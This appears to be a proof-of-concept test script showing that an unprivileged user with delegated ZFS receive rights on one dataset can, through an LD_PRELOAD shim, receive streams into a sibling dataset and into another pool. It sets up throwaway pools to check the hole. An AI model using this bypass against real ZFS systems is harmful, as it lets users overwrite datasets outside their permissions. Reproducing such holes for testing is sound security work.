#!/bin/bash
# A uid with receive,create,mount only on gdst/nb (zfs allow -l) receives into the sibling
# gdst/nb/sib and into gsrc/other, another pool, through recv-name-shim.c (see there).
# In the guest: tests/guest/run.sh tests/poc/recv-name-bypass.sh. Prints rc=0 for both
# shimmed receives while the hole is there (rc=1 for the plain one).
set -u
here=$(cd "$(dirname "$0")" && pwd)
dir=$(mktemp -d) && chmod 755 "$dir" # the uid below loads it
shim=$dir/recv-name-shim.so
cc -shared -fPIC -o "$shim" "$here/recv-name-shim.c" -ldl || exit 2
zfs version | head -1
truncate -s 256M /tmp/s.img /tmp/d.img
zpool create gsrc /tmp/s.img; zpool create gdst /tmp/d.img
zfs create gsrc/s; echo one > /gsrc/s/f; zfs snapshot gsrc/s@a
zfs create gdst/nb
zfs send gsrc/s@a | zfs receive gdst/nb/sib
echo evil > /gsrc/s/planted; zfs snapshot gsrc/s@b
zfs send -i @a gsrc/s@b > /tmp/incr
chmod 644 /tmp/incr
U=61640
zfs allow -l -u $U receive,create,mount gdst/nb
zfs allow gdst/nb
W() { setpriv --reuid $U --regid $U --clear-groups "$@"; }
W zfs receive -u gdst/nb/sib < /tmp/incr; echo "plain receive into sib: rc=$?"
SHIM_NAME=gdst/nb LD_PRELOAD="$shim" W zfs receive -u gdst/nb/sib < /tmp/incr; echo "shimmed receive into sib: rc=$?"
zfs list -t snapshot -o name -r gdst/nb/sib
# another pool: the worker names a dataset of gsrc
zfs create gsrc/other; zfs snapshot gsrc/other@a
zfs send gsrc/other@a | zfs receive gdst/nb/o2 ; echo x > /gsrc/other/x; zfs snapshot gsrc/other@b
zfs send -i @a gsrc/other@b > /tmp/incr2; zfs rollback -r gsrc/other@a; zfs destroy gsrc/other@b 2>/dev/null
chmod 644 /tmp/incr2
SHIM_NAME=gdst/nb LD_PRELOAD="$shim" W zfs receive -u gsrc/other < /tmp/incr2; echo "shimmed receive into another pool (gsrc/other): rc=$?"
zfs list -t snapshot -o name -r gsrc/other
exit 0
